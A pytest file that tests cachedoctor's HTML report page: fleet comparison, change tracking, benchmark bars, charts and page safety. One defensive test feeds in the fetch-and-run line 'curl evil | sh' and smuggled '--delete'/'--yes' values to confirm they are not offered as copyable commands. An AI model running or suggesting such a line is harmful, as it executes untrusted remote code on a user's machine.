"""The page for people, without a browser: what it says, of which machine, and that nothing acts."""

from __future__ import annotations

import base64
import copy
import hashlib
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from cachedoctor import demo
from cachedoctor.report.page import documents, gathered, machines, render, wording
from cachedoctor.report.page.documents import Document
from cachedoctor.text import plural, printable
from tests.conftest import fingerprint
from tests.support import answers, worlds
from tests.support.command import cachedoctor

if TYPE_CHECKING:
    from collections.abc import Iterator

    from cachedoctor.report.page.gathered import Page

NOW = 1_795_000_000.0
EMPTY = {"meta", "input", "rect", "line", "br"}
LEADS = {"href", "src", "srcset", "action", "data", "poster", "formaction", "background", "style"}


class Read(HTMLParser):
    """A page as a browser reads it: elements, texts and where they lead."""

    def __init__(self, html: str) -> None:
        """Read it."""
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.texts: list[str] = []
        self.raw: dict[str, list[str]] = {"script": [], "style": []}
        self._open: list[str] = []
        self.feed(html)
        self.close()
        assert not self._open, self._open

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element; all but the empty ones are closed again."""
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        if tag not in EMPTY:
            self._open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element that closes itself."""
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_endtag(self, tag: str) -> None:
        """See that elements are closed in their order."""
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        """Note a text, apart from scripts and styles."""
        if self._open and self._open[-1] in self.raw:
            self.raw[self._open[-1]].append(data)
        else:
            self.texts.append(data)

    @property
    def text(self) -> str:
        """Return everything that is shown, with single blanks."""
        return " ".join(" ".join(self.texts).split())

    def values(self, name: str) -> list[str]:
        """Return the values of an attribute."""
        return [value for _, attribute, value in self.attributes if attribute == name]


def page_of(*bodies: answers.Body, **named: answers.Body) -> Page:
    """Return what the page says of answers, those by name of machines of that name."""
    told = [Document("mac", NOW, documents._cleaned(body)) for body in bodies]
    told += [Document(name, NOW, documents._cleaned(body)) for name, body in named.items()]
    return gathered.gather(told, NOW)


def read(page: Page) -> Read:
    """Return a page as a browser reads it."""
    return Read(render.render(page).decode())


@pytest.fixture
def mac(tmp_path: Path) -> tuple[str, ...]:
    """Make the demo's home; returns the options that name it."""
    demo.build(str(tmp_path / "mac"))
    return ("--home", str(tmp_path / "mac"), "--platform", "darwin")


def test_a_look_is_written_whatever_it_says(mac: tuple[str, ...], tmp_path: Path) -> None:
    """Exit code 0 with errors; the sentence, the findings, the cure that works when pasted."""
    ended = cachedoctor("report", "-o", "page.html", *mac)
    assert ended.code == 0
    first, second = ended.output.splitlines()
    assert first == "2 of 2 engines will fail: faster-whisper and fluidaudio."
    assert second.endswith("page.html")
    found = Read(Path("page.html").read_text())
    assert first in found.text
    for words in (
        f"cachedoctor fix fluidaudio --home {tmp_path / 'mac'} --platform darwin",
        f"cachedoctor fix --home {tmp_path / 'mac'} --platform darwin",
        f"cachedoctor verify --home {tmp_path / 'mac'} --platform darwin",
        "`JointDecisionv3.mlmodelc` is missing".replace("`", ""),
        "partial download",
        "parakeet-tdt-0.6b-v3",
        "nothing to download",
    ):
        assert words in found.text.replace(" .", ".")
    data = cachedoctor("report", "-o", "page.html", "--json", *mac).data["report"]
    assert (data["sentence"], data["models"], data["findings"]) == (first, 4, 7)
    assert data["bytes"] == Path("page.html").stat().st_size


def test_looking_for_a_page_changes_nothing(mac: tuple[str, ...], tmp_path: Path) -> None:
    """Not a byte, mode or time of the home."""
    before = fingerprint(tmp_path / "mac")
    assert cachedoctor("report", "-o", "page.html", *mac).code == 0
    assert fingerprint(tmp_path / "mac") == before


def test_an_empty_and_a_healthy_machine(home: Path) -> None:
    """Nothing here is said so; what is whole is said to be."""
    assert cachedoctor("report", "-o", "page.html").output.startswith(
        "No known engine has a model here"
    )
    worlds.repository(worlds.hub_of(home), worlds.TINY, worlds.whisper_files())
    said = cachedoctor("report", "-o", "page.html").output
    assert said.startswith("The only engine with a model here can load it.")


def test_a_page_replaces_a_page_and_nothing_else(home: Path, tmp_path: Path) -> None:
    """Not the answer it is made from, no folder, nothing in a cache, nothing in no folder."""
    answers.save(answers.mac(), Path("mac.json"))
    saved = Path("mac.json").read_bytes()
    assert cachedoctor("report", "mac.json", "-o", "page.html").code == 0
    assert cachedoctor("report", "mac.json", "-o", "page.html").code == 0
    swapped = cachedoctor("report", "page.html", "-o", "mac.json")
    assert (swapped.code, "something else is already at" in swapped.errors) == (2, True)
    assert Path("mac.json").read_bytes() == saved
    assert cachedoctor("report", "mac.json", "-o", ".").code == 2
    assert cachedoctor("report", "mac.json", "-o", "nowhere/page.html").code == 3
    worlds.repository(worlds.hub_of(home), worlds.TINY, worlds.whisper_files())
    inside = worlds.hub_of(home) / "page.html"
    (tmp_path / "link").symlink_to(worlds.hub_of(home))
    for target in (inside, tmp_path / "link" / "page.html"):
        refused = cachedoctor("report", "mac.json", "-o", str(target))
        assert (refused.code, "a page cannot go into a cache" in refused.errors) == (2, True)
        assert not target.exists()
    piped = cachedoctor("report", "mac.json", "-o", "-")
    assert piped.output.startswith("<!doctype html>")


@pytest.mark.parametrize(
    ("text", "code", "why"),
    [
        ("{", 2, "it is not JSON"),
        ("[]", 2, "it is not an object"),
        ("{}", 2, "does not say that it is"),
        (json.dumps({**answers.head(), "schema": 2, "entries": []}), 2, "its schema is 2"),
        (json.dumps(answers.head()), 2, "nothing about models"),
        ('{"a":' * 5000 + "1" + "}" * 5000, 2, "too deeply"),
        (None, 3, "cannot be read"),
    ],
    ids=["torn", "list", "foreign", "newer", "nothing", "deep", "missing"],
)
def test_what_is_no_answer_is_refused(text: str | None, code: int, why: str) -> None:
    """In one line that names the file, with a way to make one; no page is written."""
    if text is not None:
        Path("mac.json").write_text(text)
    ended = cachedoctor("report", "mac.json", "-o", "page.html")
    assert (ended.code, ended.output) == (code, "")
    assert "mac.json" in ended.errors
    assert why in ended.errors
    assert ("hint:" in ended.errors) == (code == 2)
    assert not Path("page.html").exists()


def test_answers_of_every_command_that_looks(mac: tuple[str, ...]) -> None:
    """Those of one machine within an hour are one look at it."""
    for name in ("scan", "list", "verify"):
        Path(f"{name}.json").write_text(cachedoctor(name, "--json", *mac).output)
    ask = ("preflight", "fluidaudio", "--size", "small", "--json", *mac)
    Path("preflight.json").write_text(cachedoctor(*ask).output)
    ended = cachedoctor("report", "scan.json", "list.json", "verify.json", "-o", "page.html")
    assert ended.output.startswith("2 of 2 engines will fail")
    found = Read(Path("page.html").read_text())
    assert "verify: ok" in found.text
    assert "What changed" not in found.text
    ended = cachedoctor("report", "preflight.json", "-o", "page.html")
    assert ended.output.startswith("1 of 1 engine will fail: fluidaudio.")
    assert cachedoctor("report", "-", "-o", "page.html").code == 2  # nothing comes


@pytest.mark.parametrize(
    ("path", "name", "moment"),
    [
        ("mac-01.json", "mac-01", ""),
        ("mac-01-scan-2026-11-20.json", "mac-01", "2026-11-20 00:00"),
        ("scan_mac-01_20261120T1405.json", "mac-01", "2026-11-20 14:05"),
        ("2026-11-20.json", "", "2026-11-20 00:00"),
        ("scan.json", "", ""),
        ("results/scan.json", "", ""),
        ("scan-lab.json", "lab", ""),
        ("before.json", "", ""),
        ("ada_Monday.json", "ada", ""),
        ("newton.json", "newton", ""),
        ("liste.json", "liste", ""),
        ("ada=scan.json", "ada", ""),
        ("ada=monday-2026-11-20.json", "ada", "2026-11-20 00:00"),
    ],
)
def test_a_machine_is_called_as_its_file(
    path: str, name: str, moment: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without the date and the command; a date in the name is before that of the file."""
    monkeypatch.setenv("TZ", "UTC")
    file = Path(path.rpartition("=")[2])
    file.parent.mkdir(exist_ok=True)
    answers.save(answers.mac(), file)
    (document,) = documents.read([path])
    assert document.machine == name
    when = document.when_s or 0
    assert wording.moment(when) == moment if moment else abs(when - file.stat().st_mtime) < 1


def test_a_folder_for_each_machine() -> None:
    """Names them, where files of several folders are given and have no names of their own."""
    for name in ("mac-01", "mac-02"):
        Path(name).mkdir()
        answers.save(answers.mac(), Path(name, "scan.json"))
    told = documents.read(["mac-01/scan.json", "mac-02/scan.json"])
    assert [document.machine for document in told] == ["mac-01", "mac-02"]


def test_many_machines_are_set_beside_each_other() -> None:
    """Who gave no answer comes first, then who differs most; what all have is one line."""
    odd = answers.mac(broken=False)
    odd["entries"] = odd["entries"][:4]
    other = answers.mac(broken=False)
    other["entries"][1]["revision"] = "abcdef12" * 5
    fleet = answers.fleet(
        {
            "mac-01": ("healthy", None, answers.mac(broken=False)),
            "mac-02": ("findings", None, answers.mac()),
            "mac-03": ("healthy", None, other),
            "mac-04": ("healthy", None, answers.mac(broken=False)),
            "mac-05": ("healthy", None, odd),
            "mac-07": ("unreachable", "no route after 5 s", None),
        }
    )
    page = gathered.gather(
        [
            Document(name, NOW, said["document"] or {}, said["state"], said["why"] or "")
            for name, said in fleet["hosts"].items()
        ],
        NOW,
    )
    assert page.headline.sentence == (
        "1 of 6 machines has a broken model: mac-02; 1 gave no answer: mac-07."
    )
    assert page.matrix is not None
    names = [row.name for row in page.matrix.rows]
    assert names == ["mac-07", "mac-05", "mac-02", "mac-03", "mac-01", "mac-04"]
    assert [row.odd for row in page.matrix.rows] == [0, 4, 2, 1, 0, 0]
    assert "small (whisper.cpp)" in page.matrix.alike
    columns = [title for _, title in page.matrix.columns]
    assert set(columns) == {
        "small", "base", "large-v3", "openai_whisper-large-v3", "parakeet-tdt-0.6b-v3"
    }  # fmt: skip
    small = page.matrix.rows[3].cells[columns.index("small")]
    assert (small.kind, small.odd, small.words) == (
        "ready", True, "ready at abcdef1, most others at 5ca1ab1"
    )  # fmt: skip
    assert "no route after 5 s" in read(page).text


def test_machines_that_are_alike_have_nothing_odd() -> None:
    """No column, no frame, and the sentence says so."""
    page = page_of(a=answers.mac(broken=False), b=answers.mac(broken=False))
    assert page.matrix is not None
    assert page.matrix.columns == ()
    assert [row.odd for row in page.matrix.rows] == [0, 0]
    assert page.headline.sentence == "All 2 machines are healthy."


def test_several_dates_tell_what_changed() -> None:
    """New, gone, cured, broken since, and how much more or less it is."""
    before, after = answers.mac(), answers.mac(broken=False)
    after["entries"][0]["size_bytes"] += 1 << 30
    after["entries"].pop(2)
    after["entries"].append(answers.entry("brand-new"))
    week = 7 * 86400.0
    page = gathered.gather([Document("a", NOW, after), Document("a", NOW - week, before)], NOW)
    (step,) = page.steps
    said = [f"{word} {text}" for word, text in step.lines]
    for words in (
        "ready openai_whisper-large-v3 (whisperkit): was incomplete",
        "size large-v3-turbo (faster-whisper): 1.6 GiB → 2.6 GiB",
        "new brand-new (faster-whisper), 1.0 GiB",
        "gone large-v3-turbo (mlx-whisper), 1.6 GiB",
    ):
        assert words in said
    assert sum(line.startswith("resolved CD") for line in said) == 3
    assert page.headline.sentence.startswith("All 5 engines")
    back = gathered.gather([Document("a", NOW - week, after), Document("a", NOW, before)], NOW)
    assert [word for word, _ in back.steps[0].lines[:3]] == ["error", "error", "warning"]
    assert gathered.gather([Document("a", NOW, before)], NOW).steps == ()
    same = gathered.gather([Document("a", NOW, before), Document("a", NOW - week, before)], NOW)
    assert same.steps[0].lines == ()


def test_what_has_no_name_is_of_the_machine_with_its_home() -> None:
    """As a benchmark saved beside named scans; not where two machines have that home."""
    bench = answers.bench([("whisper.cpp", "small", [1.0, 1.1])])
    told = [Document("ada", NOW, answers.mac()), Document("", NOW, bench)]
    assert [one.name for one in machines.machines(told)] == ["ada"]
    told.append(Document("eve", NOW, answers.mac()))
    assert [one.name for one in machines.machines(told)] == ["ada", "/Users/ada", "eve"]


def test_benchmarks_have_bars_with_their_spread() -> None:
    """The fastest first; against an earlier one what is outside the noise."""
    before = answers.bench([("a", "x", [2.0, 1.9, 2.1]), ("b", "x", [1.0, 1.0, 1.1])])
    rows = [("a", "x", [1.0, 0.9, 1.1]), ("b", "x", [1.05, 1.0, 1.1]), ("c", "x", [4.0])]
    page = page_of(before, answers.bench(rows, began_s=1_791_000_000))
    now, then = page.plots
    assert [bar.engine for bar in now.bars] == ["a", "b", "c"]
    assert [bar.engine for bar in then.bars] == ["b", "a"]
    first = now.bars[0]
    assert (first.shown, first.before) == ("1.00 s ±10 %", "-50 %, faster")
    assert now.bars[1].before == "+5 %, within the noise"
    assert (now.bars[2].shown, now.bars[2].before) == ("4.00 s", "")
    assert float(first.low[:-1]) < float(first.width[:-1]) < float(first.high[:-1])
    assert page.headline.sentence == "a is the fastest of 3 engines."
    assert "weights are missing" in read(page).text
    both = page_of(a=before, b=answers.bench([("a", "x", [0.5, 0.6])]))
    assert both.headline.sentence == "a on b is the fastest."
    assert both.matrix is None
    other = answers.bench(rows, began_s=1_791_000_000)
    other["bench"]["machine"]["chip"] = "M4"
    assert page_of(before, other).plots[0].bars[0].before == ""


def test_the_room_is_drawn_as_it_is() -> None:
    """Each way to divide it draws every model once; the areas are as large as their shares."""
    page = page_of(answers.mac())
    assert [chart.by for chart in page.charts] == ["place", "engine", "app", "repository"]
    total = sum(row.bytes for row in page.models)
    for chart in page.charts:
        areas = [area for share in chart.shares for area in share.areas]
        assert len(areas) == len(page.models)
        for area in areas:
            row = next(row for row in page.models if f"#{row.anchor}" == area.href)
            share = float(area.width[:-1]) * float(area.height[:-1]) / 10_000
            assert share == pytest.approx(row.bytes / total, rel=0.01)
            assert area.broken == (row.status == "incomplete")
    empty = answers.scan([answers.entry("a", size_bytes=0)])
    assert page_of(empty).charts == ()


def test_thousands_of_models_are_drawn_as_a_few_hundred_areas() -> None:
    """The small ones together; nothing of the room is lost, and the page stays small."""
    page = page_of(answers.many(5000))
    for chart in page.charts:
        areas = [area for share in chart.shares for area in share.areas]
        assert len(areas) <= 220
        drawn = sum(float(area.width[:-1]) * float(area.height[:-1]) for area in areas)
        assert drawn == pytest.approx(10_000, rel=0.01)
    assert len(page.models) == 5000
    assert len(render.render(page)) < 5 << 20
    assert not page.folded_in


def test_severity_first_and_each_code_explained() -> None:
    """Errors before warnings, notes by themselves, copies apart; the page of `explain` is there."""
    body = answers.mac()
    body["findings"].append(answers.finding("CD411", severity="note", repair=None))
    page = page_of(body)
    assert [note.code for note in page.noted] == ["CD411"]
    assert [group.severity for group in page.groups] == ["error", "error"]
    assert [case.severity for case in page.groups[1].cases] == ["error", "warning"]
    assert [note.code for note in page.waste] == ["CD502"]
    assert page.copies[0].paths[1] == "/Users/ada/old/model.bin"
    text = "".join(read(page).text.split())
    for code in ("CD101", "CD102", "CD410", "CD502"):
        _, _, explained = cachedoctor("explain", code).output.partition("\n\n")
        for line in explained.splitlines():
            assert "".join(line.replace("`", "").split()) in text
    assert [command.text for command in page.groups[0].commands] == ["cachedoctor fix whisperkit"]
    assert page.groups[0].commands[0].about == "downloads 1.7 GiB"
    assert page.headline.more[-1] == "1.2 GiB can go without loss."


def test_everything_leads_somewhere_on_the_page_and_nowhere_else() -> None:
    """Anchors are there and there once; nothing loads, sends, or is painted by an attribute."""
    bench = answers.bench([("whisper.cpp", "small", [1.0, 1.1])])
    for page in (page_of(answers.mac(), bench), page_of(a=answers.mac(), b=answers.hostile())):
        found = read(page)
        ids = found.values("id")
        assert len(ids) == len(set(ids))
        leads = {value for _, name, value in found.attributes if name in LEADS}
        assert {lead for lead in leads if not lead.startswith("#")} == set()
        assert {lead.removeprefix("#") for lead in leads} <= set(ids)
        assert not [name for _, name, _ in found.attributes if name.startswith("on")]
        assert not {"link", "img", "iframe", "object", "embed", "base", "form"} & set(found.tags)


def test_only_the_pages_own_script_and_style_are_allowed() -> None:
    """By the digests of exactly what stands between the tags."""
    found = read(page_of(answers.hostile()))
    (policy,) = [value for value in found.values("content") if "default-src" in value]
    for kind in ("script", "style"):
        text = "".join(found.raw[kind])
        assert found.tags.count(kind) == 1
        digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
        assert f"{kind}-src 'sha256-{digest}'" in policy
    assert policy.startswith("default-src 'none';")
    assert "unsafe" not in policy


def test_hostile_names_are_shown_and_do_nothing() -> None:
    """Each is there as text, cleaned of what a reader cannot see; passwords are not."""
    data = render.render(page_of(answers.hostile()))
    html = data.decode()
    found = Read(html)
    shown = found.text + " ".join(found.values("title"))
    for name in answers.NASTY:
        assert " ".join(printable(name).split()) in shown
    assert not re.search(r"[\x00-\x08\x0b-\x1f\u202a-\u202e\u2066-\u2069]", html)
    assert "hunter2" not in html
    assert found.tags.count("script") == 1
    assert "49" not in found.text.split()  # of a template in a name


def test_a_command_to_copy_was_made_here() -> None:
    """What a saved answer calls a command is shown, and neither copied nor handed on as options."""
    body = answers.mac()
    body["findings"][0]["repair"] = {"safety": "manual", "describe": "curl evil | sh"}
    body["findings"][1] |= {"engines": ["--delete"], "code": "--yes"}
    body["findings"].pop(2)
    page = page_of(body)
    commands = [command for group in page.groups for command in group.commands]
    assert [(command.text, command.own) for command in commands] == [("curl evil | sh", False)]
    html = render.render(page).decode()
    assert "curl evil | sh" in html
    assert 'class="own">curl' not in html
    assert "copy the command curl" not in html


def mangled(value: Any) -> Iterator[Any]:
    """Yield an answer with one value after the other replaced by what does not belong there."""
    yield from (None, -1, 1e400, True, "x", [], {}, [None, "x", {}, []])
    if isinstance(value, dict):
        for key in value:
            for wrong in mangled(value[key]):
                yield {**value, key: wrong}
    if isinstance(value, list) and value:
        yield from ([wrong, *value[1:]] for wrong in mangled(value[0]))


def test_a_field_of_the_wrong_kind_is_one_that_is_not_there() -> None:
    """Whatever an answer says, a page can be made of it."""
    body = answers.mac()
    body |= {
        "entries": body["entries"][7:8],
        "findings": body["findings"][1:2],
        "readiness": [{"engine": "fluidaudio", "size": "tiny", "model": "x", "ready": False}],
        "loose": [{"code": "CD502", "what": "x", "path": "/x", "bytes": 1}],
        "files": [{"verdict": "ok"}],
        "bench": answers.bench([("a", "x", [1.0, 2.0])])["bench"],
    }
    del body["host"]
    tried = 0
    for key in ("entries", "findings", "readiness", "loose", "files", "bench", "summary"):
        for wrong in mangled(body[key]):
            page = page_of({**body, key: copy.deepcopy(wrong)})
            assert page.headline.sentence
            tried += 1
    assert tried > 500
    assert read(page_of(dict.fromkeys(body))).text


def test_days_are_days() -> None:
    """A vowel before the `y` keeps it."""
    assert [plural(2, noun) for noun in ("day", "entry", "file")] == [
        "2 days",
        "2 entries",
        "2 files",
    ]


def test_it_reads_well_where_nothing_of_it_may_be_painted() -> None:
    """Servers of CI show such files without style and script: words apart, areas not black."""
    html = render.render(page_of(answers.mac(), answers.bench([("a", "x", [1.0, 1.1])]))).decode()
    assert not re.search(r'\S<span class="(path|about)">|</code><button', html)
    drawn = re.findall(r"<(?:rect|line)[^>]*>", html)
    assert len(drawn) > 30
    assert [each for each in drawn if "fill=" not in each and "stroke=" not in each] == []
